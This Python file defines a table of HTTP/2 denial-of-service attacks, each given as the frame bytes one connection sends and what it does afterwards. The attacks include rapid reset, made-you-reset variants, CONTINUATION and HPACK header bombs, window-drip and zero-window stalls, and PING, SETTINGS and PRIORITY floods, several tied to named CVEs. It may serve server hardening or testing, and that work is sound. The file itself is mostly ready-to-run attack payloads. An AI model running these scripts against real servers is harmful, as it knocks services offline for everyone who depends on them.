"""The attacks: each is the bytes that one connection sends, and what it does afterwards."""

import enum
from dataclasses import dataclass

from frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY,
                    WINDOW_MAX, frame, headers, literal, priority, request, rst_stream, settings,
                    window_update)

STREAMS = 4000  # per connection, where an attack opens streams
OPEN = END_HEADERS  # a request whose body is still to come
NEWEST = b"\xbe"  # the newest entry of the dynamic table, one byte
MANY = 15_000  # of those in one header block, which may have 16,384 bytes
LARGE = b"/large"


class Then(enum.Enum):
    """When all was sent."""

    AGAIN = "send the script again"
    ANEW = "when the server has come to the end, begin anew on another connection"
    HOLD = "send no more, and wait for the server to close"


@dataclass(frozen=True)
class Attack:
    about: str
    script: bytes
    then: Then = Then.ANEW
    opening: bytes = PREFACE + settings()
    reads: bool = True


def on_streams(make, count=STREAMS):
    """What `make` says for each of so many new streams."""
    return b"".join(make(2 * number + 1) for number in range(count))


def answered(stream):
    """A whole request."""
    return headers(stream, request())


def begun(stream):
    """A request whose body is still to come."""
    return headers(stream, request(post=True), OPEN)


def bomb(field):
    """A field that goes into the dynamic table once and is named thousands of times."""
    first = headers(1, request() + literal(*field, indexed=True))
    block = request() + NEWEST * MANY
    return first + b"".join(headers(2 * n + 3, block) for n in range(100))


FILLER = literal(b"x", b"y" * 100) * 150  # 15,900 bytes

ATTACKS = {
    "rapid-reset": Attack(
        "requests, each taken back at once (CVE-2023-44487)",
        on_streams(lambda s: answered(s) + rst_stream(s))),
    "reset-window-zero": Attack(
        "made-you-reset (CVE-2025-8671): a WINDOW_UPDATE of 0",
        on_streams(lambda s: begun(s) + window_update(s, 0))),
    "reset-window-overflow": Attack(
        "made-you-reset: a window beyond 2^31-1",
        on_streams(lambda s: begun(s) + window_update(s, WINDOW_MAX))),
    "reset-priority-size": Attack(
        "made-you-reset: a PRIORITY frame of 4 bytes",
        on_streams(lambda s: begun(s) + frame(PRIORITY, 0, s, b"\0\0\0\0"))),
    "reset-priority-self": Attack(
        "made-you-reset: a stream that depends on itself",
        on_streams(lambda s: begun(s) + priority(s, depends_on=s))),
    "reset-data-after-end": Attack(
        "made-you-reset: DATA after END_STREAM",
        on_streams(lambda s: answered(s) + frame(DATA, 0, s, b"x"))),
    "reset-headers-after-end": Attack(
        "made-you-reset: HEADERS after END_STREAM",
        on_streams(lambda s: answered(s) + answered(s))),
    "continuation": Attack(
        "a header block that never ends",
        frame(CONTINUATION, 0, 1, FILLER), Then.AGAIN,
        PREFACE + settings() + frame(HEADERS, END_STREAM, 1, request())),
    "continuation-empty": Attack(
        "CONTINUATION frames of 0 bytes without end",
        frame(CONTINUATION, 0, 1) * 1000, Then.AGAIN,
        PREFACE + settings() + frame(HEADERS, END_STREAM, 1, request())),
    "hpack-bomb": Attack(
        "a field of 4,000 bytes, 15,000 times per request by one byte each",
        bomb((b"a", b"b" * 4000))),
    "cookie-crumbs": Attack("15,000 cookie fields per request", bomb((32, b"a"))),
    "empty-names": Attack(
        "5,000 fields without name and value per request (CVE-2019-9516)",
        on_streams(lambda s: headers(s, request() + b"\0\0\0" * 5000), 100)),
    "zero-window": Attack(
        "requests for 32 KiB with a window of 0, held, with heads of 8 KiB",
        on_streams(lambda s: headers(s, request(LARGE) + literal(b"x", b"y" * 8000)), 100),
        Then.HOLD, PREFACE + settings(window=0)),
    "window-drip": Attack(
        "the window opened byte by byte (CVE-2019-9511)",
        on_streams(lambda s: window_update(s, 1), 32) * 50, Then.AGAIN,
        PREFACE + settings(window=0) + window_update(0, 2**30)
        + on_streams(lambda s: headers(s, request(LARGE)), 32)),
    "never-read": Attack(
        "requests for 32 KiB whose answers nobody reads",
        on_streams(lambda s: headers(s, request(LARGE)), 1000), Then.HOLD,
        PREFACE + settings(window=WINDOW_MAX) + window_update(0, 2**30), reads=False),
    "ping": Attack("PING frames (CVE-2019-9512)", frame(PING, payload=b"12345678") * 1000,
                   Then.AGAIN),
    "settings": Attack("SETTINGS frames (CVE-2019-9515)", settings() * 1000, Then.AGAIN),
    "priority": Attack("PRIORITY frames for idle streams (CVE-2019-9513)",
                       on_streams(lambda s: priority(s, depends_on=s - 1), 1000), Then.AGAIN),
    "window-update": Attack("WINDOW_UPDATE frames of 1 for the connection",
                            window_update(0, 1) * 1000, Then.AGAIN),
    "empty-data": Attack("DATA frames of 0 bytes without end (CVE-2019-9518)",
                         frame(DATA, 0, 1) * 1000, Then.AGAIN,
                         PREFACE + settings() + begun(1)),
}
